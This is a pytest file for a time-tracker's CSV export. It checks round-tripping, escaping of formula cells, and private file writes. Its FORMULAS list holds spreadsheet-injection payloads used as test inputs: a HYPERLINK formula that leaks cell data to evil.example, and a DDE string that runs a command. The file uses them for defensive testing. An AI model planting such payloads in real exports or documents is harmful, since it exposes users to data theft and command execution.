"""CSV export: a parser reads back the same texts, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import stat
import sys
from datetime import time
from typing import TYPE_CHECKING

import pytest

from demitasse.domain.errors import BadInput, LocalFault
from demitasse.tracker.export import COLUMNS, as_csv, write

if TYPE_CHECKING:
    from pathlib import Path

    from tests.tracker.conftest import Tracker

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1|cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1",
    "\0=1+1", "＝1+1", "=cmd|' /C calc'!A0", "\n@x",
)  # fmt: skip


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_day_in_the_order_it_was_worked(tracker: Tracker) -> None:
    tracker.sheets.add(1, 1, 5400, comment='Fix "login", then\nwait', start_time=time(8), end_time=time(9, 30))
    tracker.timer.start(2, 2, "Über uns")
    tracker.clock.advance(61)
    text = as_csv([tracker.sheets.day()])
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    first, second = read(text)
    assert first == {
        "day": "2026-03-02", "start": "08:00", "end": "09:30", "duration": "1:30:00", "seconds": "5400",
        "client": "Acme", "project": "Website relaunch", "task": "Coding", "comment": 'Fix "login", then\nwait',
        "state": "waiting",
    }  # fmt: skip
    assert (second["duration"], second["state"], second["comment"], second["end"]) == (
        "0:01:01", "running", "Über uns", "",
    )  # fmt: skip


@pytest.mark.parametrize("words", FORMULAS)
def test_no_text_is_a_formula(tracker: Tracker, words: str) -> None:
    row = tracker.sheets.add(1, 1, 60)
    with tracker.store.transaction():
        tracker.store.entries._table.update(row.id, {"comment": words})
        tracker.store.database.write("UPDATE project SET name = ? WHERE id = ?", (words, row.id))
    (cells,) = read(as_csv([tracker.sheets.day()]))
    for name in ("comment", "project"):
        assert cells[name] == "'" + words.replace("\0", "")
    assert not [cell for cell in cells.values() if cell.lstrip()[:1] in set("=+-@＝")], "nor anything else"
    assert cells["seconds"] == "60", "a number stays a number"


def test_other_text_stays_unchanged(tracker: Tracker) -> None:
    tracker.sheets.add(1, 1, 60, comment="a=b + c @ d - 'e'")
    assert read(as_csv([tracker.sheets.day()]))[0]["comment"] == "a=b + c @ d - 'e'"


def test_a_file_is_private_complete_and_replaced_only_with_force(tmp_path: Path) -> None:
    file = tmp_path / "days.csv"
    write(file, "ä\r\n", force=False)
    assert file.read_bytes() == b"\xef\xbb\xbf\xc3\xa4\r\n"
    if sys.platform != "win32":
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
    with pytest.raises(BadInput, match="export_exists"):
        write(file, "b", force=False)
    assert file.read_bytes().endswith(b"\xc3\xa4\r\n")
    write(file, "c", force=True)
    assert file.read_text(encoding="utf-8-sig") == "c"
    with pytest.raises(LocalFault):
        write(tmp_path / "nowhere" / "days.csv", "d", force=True)
    assert [one.name for one in tmp_path.iterdir() if one.is_file()] == ["days.csv"], "no draft is left behind"
